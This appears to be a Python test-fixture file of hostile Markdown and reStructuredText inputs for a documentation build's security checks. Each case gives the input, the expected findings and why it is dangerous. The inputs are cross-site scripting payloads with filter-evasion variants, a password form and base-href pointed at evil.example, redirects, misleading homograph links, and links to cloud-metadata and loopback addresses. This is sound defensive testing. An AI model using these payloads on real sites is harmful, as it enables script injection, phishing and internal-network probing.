"""Bodies that are after the reader: programs and markup in the browser, links that mislead."""

from __future__ import annotations

from tests.hostile.case import FENCE, Case, directive, rst

# fmt: off
BODIES: dict[str, Case] = {
    # --- programs and markup in the reader's browser
    "script": Case(
        "<script>window.pwned=1</script>\n",
        ["1 html"], "C1", "script",
        "runs in the reader's browser",
    ),
    "html-in-quote": Case(
        "> <svg onload=x>\n",
        ["1 html"], "C1", "script",
        "runs in the reader's browser",
    ),
    "html-in-list": Case(
        "- one\n- <iframe src=x>\n",
        ["2 html"], "C1", "script",
        "frames another site",
    ),
    "html-in-table": Case(
        "| a |\n|---|\n| <b onclick=x>y</b> |\n",
        ["3 html", "3 html"], "C1", "script",
        "a handler on text",
    ),
    "html-in-footnote": Case(
        "a[^1]\n\n[^1]: <b onclick=x>y\n",
        ["3 html"], "C1", "script",
        "a handler on text",
    ),
    "html-in-heading": Case(
        "## T <img src=x onerror=x>\n",
        ["1 html", "1 heading"], "C3", "script",
        "runs on every page that lists the heading",
    ),
    "html-in-caption": Case(
        directive("figure", "fine.png", ":alt: a\n\n<b onclick=x>"),
        ["1 directive", "4 html"], "C1", "built",
        "a handler on a caption",
    ),
    "epigraph-loses-text": Case(
        directive("epigraph", "", "Words.\n\n-- Somebody\n\nMore words."),
        ["1 directive"], "C19", "built",
        "text after the attribution is lost without a word",
    ),
    "html-in-attribution": Case(
        directive("epigraph", "", "Words.\n\n-- Some <b>body"),
        ["4 html"], "C1", "built",
        "markup in an attribution",
    ),
    "comment-as-epigraph": Case(
        directive("epigraph", "", "<!-- x -->"),
        [], "C1", "built",
        "harmless: a comment alone; kept because it stopped our own build once",
    ),
    "comment-as-caption": Case(
        directive("figure", "fine.png", ":alt: a\n\n<!-- x -->"),
        ["1 directive"], "C1", "built",
        "a comment where a caption belongs breaks the figure",
    ),
    "html-after-comment": Case(
        "<!-- --><script>x</script>\n",
        ["1 html"], "C1", "script",
        "a filter that drops comments would let the script through",
    ),
    "html-inline-line": Case(
        "one\ntwo `a\nb` <b>\n",
        ["3 html"], "C1", "built",
        "markup behind code on several lines: the line must be right",
    ),
    "code-in-heading": Case(
        "## `<img src=x onerror=x>` T\n",
        ["1 heading"], "C4", "built",
        "themes that print the title without escaping run it",
    ),
    "entity-in-heading": Case(
        "## &lt;img src=x onerror=x&gt; T\n",
        ["1 heading"], "C4", "built",
        "themes that print the title without escaping run it",
    ),
    "raw": Case(
        directive("raw", "html", "<script>x</script>"),
        ["1 directive"], "C6", "script",
        "runs in the reader's browser",
    ),
    "role-directive": Case(
        directive("role", "h(raw)", ":format: html"),
        ["1 directive"], "C6 C7", "built",
        "makes a role that writes raw HTML, on this page and on all read after it",
    ),
    "meta": Case(
        directive("meta", "", ":http-equiv=refresh: 0;url=x"),
        ["1 directive"], "C12", "built",
        "sends the reader to another site; no policy stops it",
    ),
    "figure-target": Case(
        directive("figure", "fine.png", ":alt: a\n:target: javascript:x"),
        ["3 option"], "C9", "script",
        "a link that runs a program when the picture is clicked",
    ),
    "figure-class": Case(
        directive("figure", "fine.png", ":alt: a\n:class: position-fixed"),
        ["3 option"], "C11", "script",
        "lays the picture over the whole page",
    ),
    "figure-width": Case(
        directive("figure", "fine.png", ":alt: a\n:width: 99999cm"),
        ["3 option"], "C11", "built",
        "blows the page up",
    ),
    "options-block": Case(
        directive("note", "", "---\nclass: x\n---\ntext"),
        ["2 option"], "C11", "built",
        "options in YAML: what is checked line by line must not be passed by",
    ),
    "options-trick": Case(
        directive("note", "", ":\n  class: position-fixed\n\ntext"),
        ["2 option"], "C11", "built",
        "options in YAML that no line shows",
    ),
    "container": Case(
        directive("container", "position-fixed", "x"),
        ["1 directive"], "C11", "script",
        "lays text over the whole page",
    ),
    "fence-info": Case(
        f'{FENCE}js"><script>\nx\n{FENCE}\n',
        ["1 code"], "C17", "built",
        "markup in the name of a language",
    ),
    "math-role": Case(
        "{math}`\\href{javascript:x}{y}`\n",
        ["1 role"], "C15 H13", "built",
        "a link that runs a program, by the reader's MathJax from another server",
    ),
    "math-directive": Case(
        directive("math", "", "x"),
        ["1 directive"], "C15", "built",
        "loads MathJax from another server",
    ),
    "label": Case(
        "(main-content)=\n\ntext\n",
        ["1 syntax"], "C16 E1", "built",
        "takes an id of the theme, or of another page",
    ),
    "attributes": Case(
        '[x](https://e.org){target=_blank onclick="x"}\n',
        [], "C10", "built",
        "attributes on a link; here they stay plain text, and must",
    ),
    "javascript": Case(
        "[x](javascript:alert)\n",
        ["1 syntax"], "C8", "built",
        "a link that runs a program",
    ),
    "javascript-image": Case(
        "![x](javascript:alert)\n",
        ["1 syntax"], "C8", "built",
        "the same as an image",
    ),
    # --- links that mislead, or reach private machines
    "no-scheme": Case(
        "[x](//e.org/)\n",
        ["1 link"], "B16", "empty",
        "an address without scheme follows the site's own",
    ),
    "ftp": Case(
        "[x](ftp://e.org/)\n",
        ["1 link"], "B16", "built",
        "browsers follow it no more; kept because it is not on the list",
    ),
    "ip": Case(
        "[x](https://169.254.169.254/latest)\n",
        ["1 link"], "B16", "built",
        "asks machines of the internal network, by link checkers and by readers",
    ),
    "port": Case(
        "[x](https://e.org:8443/)\n",
        ["1 link"], "B16", "built",
        "asks services of the internal network",
    ),
    "user": Case(
        "[x](https://bank.org@evil.org/)\n",
        ["1 link"], "E8", "built",
        "looks like one site and leads to another",
    ),
    "localhost": Case(
        "<http://localhost/>\n",
        ["1 link"], "B16", "built",
        "asks the reader's own machine",
    ),
    "idn": Case(
        "[x](https://\u0430pple.com/)\n",
        ["1 link", "1 script"], "E7", "built",
        "looks like another site",
    ),
    "other-host": Case(
        "text\n[https://bank.org](https://evil.org/)\n",
        ["2 link"], "E8", "built",
        "shows one site and leads to another",
    ),
    "relative": Case(
        "[x](other)\n",
        ["1 link"], "B9", "empty",
        "becomes a download or a broken link",
    ),
    "mail-parameters": Case(
        "[x](mailto:a@b.org?bcc=c@d.org)\n",
        ["1 link"], "E8", "built",
        "sends copies to others",
    ),
    "page-missing": Case(
        "text\n\n[x](other.md)\n",
        ["3 link"], "E6", "empty",
        "careless: a link to nowhere",
    ),
    "link-in-link": Case(
        "[a *{any}`x`*](#y)\n",
        ["1 link", "1 unknown-reference"], "C19", "empty",
        "a role within a link breaks the HTML",
    ),
    "footnote-in-heading": Case(
        "## A[^1]\n\n### B\n\n[^1]: one\n",
        ["1 heading"], "C4", "built",
        "a footnote in a heading is repeated in every list of pages",
    ),
    "no-text": Case(
        "[](https://e.org/)\n",
        ["1 link"], "E8", "built",
        "a link that nobody sees",
    ),
    # --- and more of these
    "base": Case(
        "<base href=https://evil.example/>\n",
        ["1 html"], "C2", "script",
        "loads the site's own scripts from another server",
    ),
    "form": Case(
        "<form action=https://evil.example/><input type=password></form>\n",
        ["1 html"], "C2", "script",
        "asks for a password in the archive's name",
    ),
    "style": Case(
        "<style>body{display:none}</style>\n",
        ["1 html"], "C2", "script",
        "hides the page, or paints another",
    ),
    "meta-refresh": Case(
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
        ["1 html"], "C2 C12", "script",
        "sends the reader to another site; no policy stops it",
    ),
    "closing-tags": Case(
        "text\n\n</div></main></body>\n",
        ["3 html"], "C2", "built",
        "ends the page's frame, so that what follows stands outside",
    ),
    "srcdoc": Case(
        "<iframe srcdoc='<script>parent.x=1</script>'></iframe>\n",
        ["1 html"], "C1", "script",
        "runs in the reader's browser, in a frame of the same site",
    ),
    "declaration": Case(
        "<!DOCTYPE html>\n",
        ["1 html"], "C1", "built",
        "a kind of HTML that lists of elements forget",
    ),
    "cdata": Case(
        "<![CDATA[<script>x</script>]]>\n",
        ["1 html"], "C1", "built",
        "a kind of HTML that lists of elements forget",
    ),
    "instruction": Case(
        "<?php x ?>\n",
        ["1 html"], "C1", "built",
        "runs on a server that takes pages for programs",
    ),
    "comment-open": Case(
        "<!-- never closed\n\n<script>window.pwned=1</script>\n",
        ["1 html"], "C1", "built",
        "hides the rest of the page, or what a filter takes for hidden runs",
    ),
    "html-in-link": Case(
        "[<b onclick=x>y</b>](https://e.org/)\n",
        ["1 html", "1 html"], "C1", "script",
        "a handler within a link",
    ),
    "html-in-note-title": Case(
        directive("note", "<b onclick=x>y</b>"),
        ["1 html", "1 html"], "C1", "script",
        "a handler in the first line of a box",
    ),
    "javascript-case": Case(
        "[x](JaVaScRiPt:alert)\n",
        ["1 syntax"], "C8", "built",
        "a link that runs a program, past a filter of small letters",
    ),
    "javascript-entity": Case(
        "[x](&#106;avascript:alert)\n",
        ["1 syntax"], "C8", "built",
        "a link that runs a program, past a filter that reads no entities",
    ),
    "javascript-tab": Case(
        "[x](<java\tscript:alert>)\n",
        ["1 link"], "C8", "empty",
        "a link that runs a program, past a filter that keeps blanks",
    ),
    "javascript-autolink": Case(
        "<javascript:alert>\n",
        [], "C8", "built",
        "the same between angle brackets; here it stays plain text, and must",
    ),
    "javascript-definition": Case(
        "[x]\n\n[x]: javascript:alert\n",
        [], "C8", "built",
        "the same, its address elsewhere on the page; here it stays plain text, and must",
    ),
    "vbscript": Case(
        "[x](vbscript:x)\n",
        ["1 syntax"], "C8", "built",
        "a program for old browsers and mail programs",
    ),
    "data-link": Case(
        "[x](data:text/html,<script>x</script>)\n",
        ["1 html", "1 html", "1 syntax"], "C8", "script",
        "a page of a stranger's in a link",
    ),
    "data-image-link": Case(
        "[x](data:image/png;base64,AAAA)\n",
        ["1 link"], "C8", "empty",
        "the one kind of data that Markdown readers let through",
    ),
    "button-link": Case(
        directive("button-link", "javascript:x", "x"),
        ["1 directive"], "C9 H1", "built",
        "a link that runs a program where sphinx-design is loaded; in the PDF, markup",
    ),
    "button-role": Case(
        "{bdg-link-primary}`x <javascript:x>`\n",
        ["1 role"], "C9 H1", "built",
        "a link that runs a program where sphinx-design is loaded",
    ),
    "rst-link": Case(
        rst("`x <javascript:x>`_"),
        ["1 directive"], "C9", "script",
        "a link that runs a program, through reStructuredText",
    ),
    "rst-meta": Case(
        rst(".. meta::\n   :http-equiv=refresh: 0;url=https://evil.example/"),
        ["1 directive"], "C12", "script",
        "sends the reader to another site",
    ),
    "attributes-block": Case(
        "{.position-fixed style=color:red}\nText.\n",
        [], "C10", "built",
        "attributes on a paragraph; here they stay plain text, and must",
    ),
    "attributes-span": Case(
        "[x]{.position-fixed}\n",
        [], "C10", "built",
        "attributes on words; here they stay plain text, and must",
    ),
    "colon-fence": Case(
        ":::{container} position-fixed\nx\n:::\n",
        ["1 syntax"], "C11", "built",
        "a directive in the spelling that pages may switch on",
    ),
    "dollar-math": Case(
        "$$\\href{javascript:x}{y}$$\n",
        ["1 syntax"], "C15", "built",
        "formulas in the spelling that pages may switch on",
    ),
    "mermaid": Case(
        directive("mermaid", "", "graph TD"),
        ["1 directive"], "C15", "built",
        "loads a program from another server",
    ),
    "abbr-markup": Case(
        "{abbr}`<b> (\"><script>)`\n",
        [], "C19", "built",
        "markup in an abbreviation and its explanation, which is an attribute",
    ),
    "icon": Case(
        "{material-regular}`x;1em;position-fixed`\n",
        ["1 role"], "C19", "built",
        "classes of a stranger's choice where sphinx-design is loaded",
    ),
    "link-title": Case(
        "[x](https://e.org/ '\" onclick=\"x')\n",
        [], "C10", "built",
        "quotation marks in a link's title, which is an attribute",
    ),
    "quoted-address": Case(
        "[x](https://e.org/\"><img/src=x>)\n",
        [], "H1", "built",
        "encoded, it stays within its attribute, in page and PDF, and must",
    ),
    "punycode": Case(
        "[x](https://xn--pple-43d.com/)\n",
        ["1 link"], "E7", "built",
        "looks like another site in some programs",
    ),
    "ipv6": Case(
        "[x](https://[::1]/)\n",
        ["1 link"], "B16", "built",
        "asks the reader's own machine",
    ),
    "decimal-ip": Case(
        "[x](https://2130706433/)\n",
        ["1 link"], "B16", "built",
        "asks the reader's own machine, by a number",
    ),
    "backslash-host": Case(
        "[x](<https://e.org\\@evil.example/>)\n",
        ["1 link"], "E8", "built",
        "programs do not agree to which site it leads",
    ),
    "heading-of-theme": Case(
        "## Main content\n\n## Search\n",
        [], "C16", "built",
        "takes the ids to which the theme's own links lead",
    ),
}
